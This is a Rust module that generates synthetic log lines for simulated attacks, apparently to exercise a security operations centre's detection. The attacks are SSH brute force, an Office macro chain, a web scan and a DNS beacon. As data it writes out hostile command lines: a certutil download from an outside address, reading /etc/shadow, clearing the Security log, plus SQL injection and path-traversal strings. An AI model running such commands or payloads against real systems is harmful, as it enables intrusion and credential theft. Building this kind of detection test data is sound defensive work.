//! Stories of attacks, told by the lines that they leave behind.

use chrono::{DateTime, TimeDelta, Utc};
use serde_json::json;

use super::line::{started, syslog, sysmon, web, windows};
use super::{Chance, Line};

/// An attack that a centre must notice.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Story {
    /// One address guesses passwords over SSH, gets in, and becomes root. ATT&CK T1110.001, T1078, T1548.003.
    SshGuessing,
    /// A document starts PowerShell, fetches a tool, reads the memory of LSASS, stays, and clears the log.
    /// ATT&CK T1204.002, T1059.001, T1105, T1547.001, T1003.001, T1070.001.
    OfficeMachine,
    /// One address scans a public-service portal with SQL injection and path traversal. ATT&CK T1595.002, T1190.
    WebScan,
    /// A machine asks for names under one domain at a steady beat, with data in the names. ATT&CK T1071.004.
    DnsBeacon,
}

impl Story {
    /// All of them.
    pub const ALL: [Self; 4] = [Self::SshGuessing, Self::OfficeMachine, Self::WebScan, Self::DnsBeacon];
}

/// The lines of a story that begins at `at` on a machine, in order of time. `user` is the account that is taken over
/// or that works there.
pub fn story(seed: u64, story: Story, host: &str, user: &str, at: DateTime<Utc>) -> Vec<Line> {
    let mut teller = Teller { chance: Chance::new(seed), host, user, at, lines: Vec::new() };
    match story {
        Story::SshGuessing => teller.ssh_guessing(),
        Story::OfficeMachine => teller.office_machine(),
        Story::WebScan => teller.web_scan(),
        Story::DnsBeacon => teller.dns_beacon(),
    }
    teller.lines
}

struct Teller<'a> {
    chance: Chance,
    host: &'a str,
    user: &'a str,
    at: DateTime<Utc>,
    lines: Vec<Line>,
}

impl Teller<'_> {
    /// Time goes on by so many seconds.
    fn wait(&mut self, seconds: u64) {
        self.at += TimeDelta::seconds(i64::try_from(seconds).unwrap_or(0));
    }

    fn say(&mut self, line: String) {
        self.lines.push((self.at, line));
    }

    fn ssh_guessing(&mut self) {
        const GUESSED: [&str; 6] = ["root", "admin", "test", "oracle", "ubuntu", "backup"];
        let from = format!("203.0.113.{}", 1 + self.chance.below(250));
        for _ in 0..36 {
            let (port, pid) = (30_000 + self.chance.below(30_000), 2000 + self.chance.below(9000));
            let name = self.chance.one(&GUESSED);
            let who = if name == "root" { "root".to_owned() } else { format!("invalid user {name}") };
            let said = format!("Failed password for {who} from {from} port {port} ssh2");
            self.say(syslog(self.at, 86, self.host, "sshd", pid, &said));
            let pause = 1 + self.chance.below(4);
            self.wait(pause);
        }
        let pid = 2000 + self.chance.below(9000);
        let said = format!("Accepted password for {} from {from} port 51022 ssh2", self.user);
        self.say(syslog(self.at, 86, self.host, "sshd", pid, &said));
        for command in ["/usr/bin/id", "/usr/bin/cat /etc/shadow", "/usr/sbin/useradd -m sao_luu"] {
            self.wait(20);
            let user = self.user;
            let said = format!("{user} : TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND={command}");
            self.say(syslog(self.at, 85, self.host, "sudo", pid + 1, &said));
        }
        let said = "new user: name=sao_luu, UID=1002, GID=1002, home=/home/sao_luu, shell=/bin/bash, from=/dev/pts/1";
        self.say(syslog(self.at, 86, self.host, "useradd", pid + 2, said));
    }

    fn office_machine(&mut self) {
        const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
        const SHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
        const TOOL: &str = "C:\\Users\\Public\\capnhat.exe";
        // UTF-16LE of: Write-Output 'dien tap an ninh mang'
        const ENCODED: &str =
            "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGQAaQBlAG4AIAB0AGEAcAAgAGEAbgAgAG4AaQBuAGgAIABtAGEAbgBnACcA";
        let outside = format!("198.51.100.{}", 1 + self.chance.below(250));
        let account = format!("TINH\\{}", self.user);
        let run =
            |t: &Self, image: &str, command: &str, parent: &str| started(t.at, t.host, t.user, image, command, parent);

        self.say(run(self, WORD, "WINWORD.EXE /n \"C:\\Users\\Public\\giay_moi.docm\"", "C:\\Windows\\explorer.exe"));
        self.wait(7);
        let command = format!("powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -enc {ENCODED}");
        self.say(run(self, SHELL, &command, WORD));
        self.wait(3);
        let command = format!("certutil.exe -urlcache -split -f http://{outside}/capnhat.txt {TOOL}");
        self.say(run(self, "C:\\Windows\\System32\\certutil.exe", &command, SHELL));
        self.wait(1);
        self.say(sysmon(
            self.at,
            self.host,
            3,
            json!({"Image": "C:\\Windows\\System32\\certutil.exe", "Protocol": "tcp", "Initiated": "true",
                "SourceIp": "10.1.7.21", "SourcePort": 50211, "DestinationIp": outside, "DestinationPort": 80,
                "User": account}),
        ));
        self.wait(1);
        let created = json!({"Image": "C:\\Windows\\System32\\certutil.exe", "TargetFilename": TOOL, "User": account});
        self.say(sysmon(self.at, self.host, 11, created));
        self.wait(5);
        let key = "HKU\\S-1-5-21-1-2-3-1001\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\CapNhat";
        let set =
            json!({"EventType": "SetValue", "Image": SHELL, "TargetObject": key, "Details": TOOL, "User": account});
        self.say(sysmon(self.at, self.host, 13, set));
        self.wait(40);
        self.say(sysmon(
            self.at,
            self.host,
            10,
            json!({"SourceImage": TOOL, "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1410",
                "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\dbgcore.DLL+1a2b|UNKNOWN(00000000)",
                "SourceUser": account, "TargetUser": "NT AUTHORITY\\SYSTEM"}),
        ));
        self.wait(90);
        self.say(run(self, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security", CMD));
        let cleared = json!({"SubjectUserName": self.user, "SubjectDomainName": "TINH"});
        self.say(windows(self.at, self.host, "Microsoft-Windows-Eventlog", "Security", 1102, cleared));
    }

    fn web_scan(&mut self) {
        /// What scanners ask for; the answers below are refusals.
        const ASKED: [(&str, u16); 9] = [
            ("GET /.env", 404),
            ("GET /.git/config", 404),
            ("GET /wp-login.php", 404),
            ("GET /phpmyadmin/index.php", 404),
            ("GET /tra-cuu-ho-so?ma=1%27%20UNION%20SELECT%20NULL,NULL--%20", 403),
            ("GET /tra-cuu-ho-so?ma=1'+or+1=1--", 403),
            ("GET /tai-ve?tep=../../../../../../etc/passwd", 403),
            ("GET /tai-ve?tep=..%2f..%2f..%2fetc%2fpasswd", 403),
            ("GET /tin-tuc?q=%3Cscript%3Ealert(1)%3C/script%3E", 403),
        ];
        let from = format!("203.0.113.{}", 1 + self.chance.below(250));
        for round in 0..5 {
            for (request, status) in ASKED {
                let agent =
                    if round == 0 { "Mozilla/5.00 (Nikto/2.1.6)" } else { "sqlmap/1.8.2#stable (https://sqlmap.org)" };
                let bytes = 150 + self.chance.below(300);
                self.say(web(self.at, self.host, &from, request, status, bytes, agent));
                let pause = self.chance.below(3);
                self.wait(pause);
            }
        }
        self.say(web(
            self.at,
            self.host,
            &from,
            "GET /tra-cuu-ho-so?ma=1%27%20AND%20SLEEP(5)--",
            500,
            310,
            "sqlmap/1.8.2#stable (https://sqlmap.org)",
        ));
    }

    fn dns_beacon(&mut self) {
        let inside = format!("10.1.7.{}", 2 + self.chance.below(250));
        for _ in 0..40 {
            let label = format!("{:016x}{:08x}", self.chance.next(), self.chance.below(1 << 32));
            let said = format!("query[TXT] {label}.cdn-dongbo.example.net from {inside}");
            self.say(syslog(self.at, 30, self.host, "dnsmasq", 640, &said));
            let pause = 58 + self.chance.below(5);
            self.wait(pause);
        }
    }
}
